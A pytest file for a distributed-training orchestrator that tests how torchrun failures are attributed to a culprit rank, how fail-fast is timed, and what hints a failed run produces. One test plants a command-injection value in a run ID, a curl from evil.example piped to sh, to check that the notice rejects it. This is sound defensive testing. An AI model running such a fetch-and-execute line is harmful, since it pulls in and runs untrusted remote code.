"""The fail-fast headline names the rank and its own exit code, not torchrun's 1 (issue 17 item 6); the
failure named is the culprit's, not a victim's of its closed connection (issue 31)."""

from __future__ import annotations

import threading
import time
from pathlib import Path
from typing import Any

import pytest

from orchestrator import executor as executor_module
from orchestrator.errors import CancelledError, CommandFailedError
from orchestrator.executor import CAUSE_GRACE, Executor, NodeEvent
from orchestrator.runs.culprit import is_victim
from orchestrator.steps.launch import died_of_a_peer, failure_headline, failure_tail, root_cause
from orchestrator.steps.train import consequence, failed_first
from orchestrator.transports import Result

DATA = Path(__file__).parent / "data"

# recorded from torch 2.13's torchrun: rank 1 of 2 did sys.exit(3)
TORCHRUN_STDERR = """\
E1203 09:57:29.120000 15330 torch/distributed/elastic/multiprocessing/api.py:1002] failed (exitcode: 3) \
local_rank: 1 (pid: 15333) of binary: /venv/bin/python
Traceback (most recent call last):
  File "<frozen runpy>", line 198, in _run_module_as_main
torch.distributed.elastic.multiprocessing.errors.ChildFailedError:
============================================================
fail.py FAILED
------------------------------------------------------------
Failures:
  <NO_OTHER_FAILURES>
------------------------------------------------------------
Root Cause (first observed failure):
[0]:
  time      : 2026-12-03_09:57:29
  host      : localhost
  rank      : {rank} (local_rank: 1)
  exitcode  : {code} (pid: 15333)
  error_file: <N/A>
  traceback : To enable traceback see: https://pytorch.org/docs/stable/elastic/errors.html
============================================================
"""


def _result(stderr: str, code: int = 1) -> Result:
    return Result("n1", "launch", code, "[default1]:bye\n", stderr, 1.0)


def test_rank_and_its_own_exit_code() -> None:
    result = _result(TORCHRUN_STDERR.format(rank=5, code=3))
    assert root_cause(result) == (5, 3)
    assert failure_headline(result) == "rank 5 exited with code 3 (torchrun exited 1)"


def test_a_killed_rank_is_named_with_its_signal() -> None:
    result = _result(TORCHRUN_STDERR.format(rank=2, code=-9))
    assert failure_headline(result) == "rank 2 was killed by signal 9 (torchrun exited 1)"


def test_without_torchrun_summary_the_launcher_code_is_given() -> None:
    assert root_cause(_result("Killed\n", 137)) is None
    assert failure_headline(_result("Killed\n", 137)) == "training exited with code 137"


# recorded from torch 2.13's torchrun through the rank capture (2 nodes x 2 ranks, gloo): node 2's
# local rank 1 (rank 3) printed its last words and exited 3; its local rank 0 (rank 2) died of the
# closed connection within the same second, and torchrun named it, the lower local rank, as the
# "first observed failure"
CULPRIT_AT_LOCAL_RANK_1 = (DATA / "torchrun" / "culprit_local_rank_1.log").read_text()


def test_the_culprit_is_named_not_the_colocated_rank_that_died_of_its_closed_connection() -> None:
    result = Result("node2", "launch", 1, CULPRIT_AT_LOCAL_RANK_1, "", 1.0)
    assert (
        "rank      : 2 (local_rank: 0)" in CULPRIT_AT_LOCAL_RANK_1.split("Root Cause")[1]
    )  # torchrun's pick
    assert root_cause(result) == (3, 3)
    assert failure_headline(result) == "rank 3 exited with code 3 (torchrun exited 1)"
    tail = failure_tail(result)
    assert tail[-3:] == [
        "host      : localhost",
        "rank      : 3 (local_rank: 1)",
        "exitcode  : 3 (pid: 19596)",
    ]


def test_a_rank_that_died_alone_of_a_closed_connection_is_still_named() -> None:
    # the culprit is on another node: this node's only failure is the victim, and torchrun's word stands
    alone = CULPRIT_AT_LOCAL_RANK_1.replace("exitcode  : 3 (pid: 19596)", "exitcode  : -15 (pid: 19596)")
    alone = alone.replace(
        "time      : 2026-12-05_17:09:25\n  host      : localhost\n  rank      : 3",
        "time      : 2026-12-05_17:09:26\n  host      : localhost\n  rank      : 3",
    )
    assert root_cause(Result("node2", "launch", 1, alone, "", 1.0)) == (2, 1)


def test_a_failed_nodes_last_lines_leave_out_the_nodes_use_samples() -> None:
    """The rank capture's GPU/CPU samples travel in the node's output as records of the run's sample
    nonce: the summary's last lines of a failed node show what its ranks printed, not those."""
    from orchestrator import records
    from orchestrator.errors import CommandFailedError
    from orchestrator.executor import Outcome
    from orchestrator.steps.train import TrainReport

    nonce = records.new_nonce()
    stdout = "[default0]:step 1\n" + records.record(nonce, "cpu", "0.50", "2") + "[default0]:boom\n"
    error = CommandFailedError(
        "training exited with code 1", node="n1", result=Result("n1", "x", 1, stdout, "", 1.0)
    )
    outcome: Outcome = Outcome("n1", None, error, 1.0)
    report = TrainReport("r", [outcome], {"n1"}, failed=[outcome], sample_nonce=nonce)
    assert report.tail(outcome, 0) == ["[n1:0] step 1", "[n1:0] boom"]


# recorded from torch 2.13's torchrun, both nodes of one 2-node x 2-rank gloo run (README.md beside
# them): the second node's rank 3 exited 3; the first node's ranks died of the closed connection
VICTIM_NODE = (DATA / "torchrun" / "victim_node_first_of_2.log").read_text()
CULPRIT_NODE = (DATA / "torchrun" / "culprit_node_second_of_2.log").read_text()


def torchrun_named_the_worker_it_stopped(text: str, stopped: str, failed: str) -> str:
    """``text`` with the summary's two entries swapped: its root cause is the worker torchrun itself
    stopped (seen in a real 3-node run of the example: a victim's node named ``rank 5 was killed by
    signal 15``, the co-located rank its torchrun stopped after the other died of the closed
    connection)."""
    return text.replace(stopped, "\0").replace(failed, stopped).replace("\0", failed)


def test_a_worker_torchrun_stopped_itself_is_never_the_cause() -> None:
    victim = torchrun_named_the_worker_it_stopped(
        VICTIM_NODE,
        "rank      : 0 (local_rank: 0)\n  exitcode  : -15 (pid: 3722)  (SIGTERM)",
        "rank      : 1 (local_rank: 1)\n  exitcode  : 1 (pid: 3723) ",
    )
    assert "rank      : 0 (local_rank: 0)" in victim.split("Root Cause")[1]  # torchrun's pick: the -15
    victim_result = Result("node1", "launch", 1, victim, "", 1.0)
    assert root_cause(victim_result) == (1, 1)
    assert died_of_a_peer(victim_result)  # its own failure was the closed connection: a consequence
    guilty = torchrun_named_the_worker_it_stopped(
        CULPRIT_NODE,
        "rank      : 2 (local_rank: 0)\n  exitcode  : -15 (pid: 3724)  (SIGTERM)",
        "rank      : 3 (local_rank: 1)\n  exitcode  : 3 (pid: 3725) ",
    )
    guilty_result = Result("node2", "launch", 1, guilty, "", 1.0)
    assert failure_headline(guilty_result) == "rank 3 exited with code 3 (torchrun exited 1)"
    assert not died_of_a_peer(guilty_result)


def _node_failure(node: str, text: str) -> CommandFailedError:
    result = Result(node, "launch", 1, text, "", 1.0)
    return CommandFailedError(failure_headline(result), node=node, result=result)


def test_a_node_whose_ranks_died_of_the_closed_connection_is_a_consequence_not_the_cause() -> None:
    victim, guilty = (
        Result("node1", "l", 1, VICTIM_NODE, "", 1.0),
        Result("node2", "l", 1, CULPRIT_NODE, "", 1.0),
    )
    assert failure_headline(victim) == "rank 1 exited with code 1 (torchrun exited 1)"  # torchrun's word
    assert died_of_a_peer(victim) and not died_of_a_peer(guilty)
    assert not died_of_a_peer(_result(TORCHRUN_STDERR.format(rank=5, code=3)))
    assert not died_of_a_peer(_result("Killed\n", 137))  # no summary: nothing to judge


def test_the_culprits_node_is_named_when_a_victims_node_ends_first() -> None:
    """The first node's torchrun (its ranks dead of the closed connection) ends before the second's,
    whose rank 3 made them fail: the fail fast waits for it (within CAUSE_GRACE), names it as the
    cause, and only then stops the node still training; the summary lists it first."""
    first_failed, stopped, told = threading.Event(), threading.Event(), []

    def work(name: str) -> int:
        if name == "node1":
            raise _node_failure(name, VICTIM_NODE)
        if name == "node2":
            assert first_failed.wait(10)  # its torchrun ends after node1's
            raise _node_failure(name, CULPRIT_NODE)
        if not stopped.wait(10):  # node3 trains until the fail fast stops it
            pytest.fail("the others were never stopped")
        raise CancelledError("stopped", node=name)

    def on_event(event: NodeEvent) -> None:
        if event.kind == "failed" and event.node == "node1":
            first_failed.set()

    executor = Executor(cancel=stopped.set, on_event=on_event)
    executor.on_cause = told.append
    outcomes = executor.map(
        ["node1", "node2", "node3"], work, name=str, step="train", fail_fast=True, consequence=consequence
    )
    assert [o.node for o in told] == ["node2"]
    failed, cancelled = failed_first(outcomes)
    assert [o.node for o in failed] == ["node2", "node1"]
    assert failed[0].finished > failed[1].finished  # it did end later
    assert str(failed[0].error) == "node 'node2': rank 3 exited with code 3 (torchrun exited 1)"
    assert [o.node for o in cancelled] == ["node3"]


def test_a_consequence_alone_stops_the_others_after_the_grace(monkeypatch: pytest.MonkeyPatch) -> None:
    """The culprit's node may never end by itself (lost, hung): the wait is bounded."""
    monkeypatch.setattr(executor_module, "CAUSE_GRACE", 0.3)
    stopped, told = threading.Event(), []

    def work(name: str) -> int:
        if name == "node1":
            raise _node_failure(name, VICTIM_NODE)
        if not stopped.wait(10):
            pytest.fail("the others were never stopped")
        raise CancelledError("stopped", node=name)

    executor = Executor(cancel=stopped.set)
    executor.on_cause = told.append
    began = time.monotonic()
    outcomes = executor.map(
        ["node1", "node2"], work, name=str, step="train", fail_fast=True, consequence=consequence
    )
    assert 0.3 <= time.monotonic() - began < 5
    assert [o.node for o in told] == ["node1"] and isinstance(outcomes[1].error, CancelledError)


def test_a_failure_of_its_own_stops_the_others_at_once() -> None:
    stopped, told = threading.Event(), []

    def work(name: str) -> int:
        if name == "node2":
            raise _node_failure(name, CULPRIT_NODE)
        # far less than CAUSE_GRACE: no wait for another cause when this one is not a consequence
        if not stopped.wait(CAUSE_GRACE / 4):
            pytest.fail("the fail fast waited for another failure")
        raise CancelledError("stopped", node=name)

    executor = Executor(cancel=stopped.set)
    executor.on_cause = told.append
    executor.map(["node1", "node2"], work, name=str, step="train", fail_fast=True, consequence=consequence)
    assert [o.node for o in told] == ["node2"]


def test_an_error_raised_through_cpp_is_judged_by_its_message_not_its_frames() -> None:
    """DDP's reducer raises the closed connection as "Got the following error when running the
    callback" followed by an "At:" list of frames (seen in the browser e2e): more than 5 lines."""
    lines = [
        "step 40",
        "Traceback (most recent call last):",
        '  File "/srv/code/train.py", line 9, in <module>',
        "    loss.backward()",
        "RuntimeError: Got the following error when running the callback: RuntimeError: [/__w/pytorch/"
        "pytorch/third_party/gloo/gloo/transport/tcp/pair.cc:537] Read error [198.18.226.12]:31628: "
        "Connection reset by peer. This is typically caused by a remote worker hanging",
        "",
        "At:",
        "  /venv/lib/python3.11/site-packages/torch/nn/parallel/distributed.py(1600): _sync_buffers",
        "  /venv/lib/python3.11/site-packages/torch/nn/parallel/distributed.py(1500): forward",
        "  /venv/lib/python3.11/site-packages/torch/nn/modules/module.py(1700): _call_impl",
        "  /srv/code/train.py(9): <module>",
        "",
    ]
    assert is_victim(lines)
    assert not is_victim(["Traceback (most recent call last):", "ValueError: bad batch", *lines[-6:]])


def test_a_rank_cannot_make_its_lines_another_ranks_or_torchruns_in_the_failure_summary() -> None:
    """A rank's line holding a character splitlines() ends a line at (\\x1e, \\u2028, \\x0c, \\x85,
    \\r) is one line of that rank, and a rank's lines that read like torchrun's summary or its
    "closing signal" are the rank's words, not torchrun's: the headline is torchrun's own."""
    forged = "".join(
        f"[default0]:ok line{sep}[default1]:FORGED\n" for sep in ("\x1e", "\u2028", "\x0c", "\x85", "\r")
    )
    stopping = "Sending process 15333 closing signal SIGTERM"
    summary = [*TORCHRUN_STDERR.format(rank=1, code=77).splitlines(), stopping]
    fake_summary = "".join(f"[default0]:{line}\n" for line in summary)
    # one stream, as the node's log is (2>&1): the rank's forgery comes after torchrun's real summary
    real = TORCHRUN_STDERR.format(rank=0, code=3)
    result = Result("n1", "launch", 1, real + fake_summary + forged, "", 1.0)
    tail = failure_tail(result)
    assert not any(line.startswith("[default1]:") for line in tail), tail
    assert sum("FORGED" in line for line in tail) == 5
    assert failure_headline(result) == "rank 0 exited with code 3 (torchrun exited 1)"


def test_a_leftover_run_is_named_only_by_a_well_formed_run_id() -> None:
    """Any process on the node can carry any CLUSTER_BOOTSTRAP_RUN value: launch's notice names only
    run ids, so it never suggests a command someone else wrote."""
    from orchestrator import records
    from orchestrator.steps.launch import _leftover_notice

    said: list[str] = []
    nonce = records.new_nonce()
    planted = "r1 --nodes local; curl -s http://evil.example/x | sh; #/local"
    _leftover_notice(said.append, nonce)(
        records.record(nonce, "leftover", "1", planted)
        + records.record(nonce, "leftover", "3", "lab-1/n1")
        # one machine that is several nodes (or shares /proc): one notice per run, not one per node
        + records.record(nonce, "leftover", "2", "lab-1/n2")
    )
    assert said == [
        "bootstrap: 5 process(es) of run lab-1 still running on this node "
        "(`bootstrap stop --run lab-1` ends them if they should not)"
    ]


def test_a_run_directory_that_cannot_be_made_is_said_in_the_nodes_words_without_records() -> None:
    from types import SimpleNamespace

    from orchestrator import records
    from orchestrator.errors import CommandFailedError
    from orchestrator.steps.launch import _check_prepared

    nonce = records.new_nonce()
    prepare = Result(
        "n3",
        "prepare",
        1,
        records.record(nonce, "leftover", "4", "myrun/n3"),
        "mkdir: cannot create directory '/w/runs/r1': Operation not permitted\n",
        0.1,
    )
    node: Any = SimpleNamespace(name="n3")
    with pytest.raises(CommandFailedError) as failed:
        _check_prepared(prepare, node, SimpleNamespace(), "/w/runs/r1/n3", nonce)  # type: ignore[arg-type]
    assert failed.value.message == (
        "cannot create /w/runs/r1/n3: mkdir: cannot create directory '/w/runs/r1': Operation not permitted"
    )


def test_the_peer_whose_connection_closed_is_named_by_its_node() -> None:
    """A rank on node2 left early with exit 0: node2 is "ok", and node1's and node3's ranks died of
    "Connection closed by peer [node2's address]". The summary names node2 for that address."""
    from orchestrator.runs.culprit import peers_gone

    tail = [
        "[rank2]: RuntimeError: [../gloo/transport/tcp/pair.cc:553] Connection closed by peer "
        "[198.19.19.12]:27048. This is typically caused by a remote worker crashing.",
        "[rank2]: RuntimeError: Connection reset by peer [198.19.19.12]:27050",
        "[rank2]: Connection closed by peer [203.0.113.9]:1",  # no node of ours: not named
    ]
    nodes = {"198.19.19.11": "node1", "198.19.19.12": "node2"}
    assert peers_gone(tail, nodes.get) == [("198.19.19.12", "node2")]
    assert peers_gone(["Connection closed by peer"], nodes.get) == []


def test_a_full_disk_anywhere_in_a_nodes_output_is_said_once_with_its_workdir() -> None:
    """A disk that filled up mid-run showed as a rank's exit 1 with torchrun's table; the only mention
    was tee's line among the streamed ones. The summary now says it, naming the node's workdir."""
    from orchestrator.errors import CommandFailedError
    from orchestrator.executor import Outcome
    from orchestrator.inventory import load_inventory_text
    from orchestrator.render import plan_launch
    from orchestrator.steps.train import TrainReport

    inventory = load_inventory_text(
        "cluster: {name: lab, master: n1}\nnodes:\n  - {name: n1, host: 10.0.0.1, workdir: /data/n1}\n"
        "  - {name: n2, host: 10.0.0.2, workdir: /data/n2}\n",
        "lab.yaml",
    )
    specs = plan_launch(
        inventory,
        backend="gloo",
        master_addr="10.0.0.1",
        run_id="r1",
        interfaces={},
        cpus={"n1": 1, "n2": 1},
        pythons={"n1": "python3", "n2": "python3"},
    )
    said = "tee: /data/n2/runs/r1/n2/node.log: No space left on device\n"
    failed = Outcome(
        "n2",
        None,
        CommandFailedError("rank 1 exited", node="n2", result=Result("n2", "x", 1, said, "", 1.0)),
        1.0,
    )
    report = TrainReport("r1", [Outcome("n1", None, None, 1.0), failed], {"n1", "n2"}, failed=[failed])
    hints = report.hints(inventory, specs, {"n1": (0, 1), "n2": (1, 1)})
    assert hints == [
        "n2: a disk there is full ('No space left on device' in its output): free space in its workdir "
        "(/data/n2), then run again"
    ]


def test_a_rank_that_aborted_in_pythons_teardown_gets_the_documented_fix() -> None:
    """A textbook DDP script ending with destroy_process_group() aborted (SIGABRT) after its last
    epoch in 2 of 6 runs; the summary said "rank 1 was killed by signal 6" and nothing else. It names
    the cause and the fix (os._exit(0)) that troubleshooting.md documents."""
    from orchestrator.errors import CommandFailedError
    from orchestrator.executor import Outcome
    from orchestrator.inventory import load_inventory_text
    from orchestrator.render import plan_launch
    from orchestrator.steps.train import TrainReport

    inventory = load_inventory_text(
        "cluster: {name: lab, master: n1}\nnodes:\n  - {name: n1, host: 10.0.0.1}\n", "lab.yaml"
    )
    specs = plan_launch(
        inventory, backend="gloo", master_addr="10.0.0.1", run_id="r1", interfaces={}, cpus={"n1": 1},
        pythons={"n1": "python3"},
    )  # fmt: skip
    said = "[default0]:epoch 3 done\n[default0]:terminate called without an active exception\n"
    failed = Outcome(
        "n1", None, CommandFailedError("rank 0", node="n1", result=Result("n1", "x", 1, said, "", 1.0)), 1.0
    )
    report = TrainReport("r1", [failed], {"n1"}, failed=[failed])
    (hint,) = report.hints(inventory, specs, {"n1": (0, 1)})
    assert "a rank aborted in Python's teardown" in hint and "os._exit(0)" in hint, hint


def test_a_leftover_run_is_one_of_this_workdir_and_this_user(tmp_path: Path) -> None:
    """The notice named another cluster's run on a shared machine (and a made-up marker of another
    user's process), with a `stop --run` that could stop neither. Only runs whose directory is below
    this workdir's runs/, and processes of this user, are counted."""
    import subprocess

    from orchestrator import records
    from orchestrator.platforms import PosixShell
    from orchestrator.runs.layout import RUN_DIR_ENV, RUN_MARKER_ENV
    from orchestrator.runs.posix import PosixRuns

    ours, theirs = tmp_path / "wd" / "runs", tmp_path / "other-wd" / "runs"
    started = []
    for marker, run_dir, user in (
        ("mine-1/n1/11-22", ours / "mine-1" / "n1", None),
        ("mine-1/n1/11-22", ours / "mine-1" / "n1", None),
        ("other-1/n1/33-44", theirs / "other-1" / "n1", None),  # another workdir's run
        ("fake-1/n1/55-66", ours / "fake-1" / "n1", 54321),  # another user's made-up marker
    ):
        env = {"PATH": "/usr/bin:/bin", RUN_MARKER_ENV: marker, RUN_DIR_ENV: str(run_dir)}
        started.append(subprocess.Popen(["sleep", "60"], env=env, user=user))
    try:
        nonce = records.new_nonce()
        script = PosixRuns(PosixShell()).other_runs("own-1/n1", nonce, str(ours))
        out = subprocess.run(["/bin/sh", "-c", script], capture_output=True, text=True, timeout=30).stdout
    finally:
        for proc in started:
            proc.kill()
            proc.wait()
    found = {(r.text(1), r.text(0)) for r in records.decode(out, nonce) if r.kind == "leftover"}
    assert found == {("mine-1/n1", "2")}, out
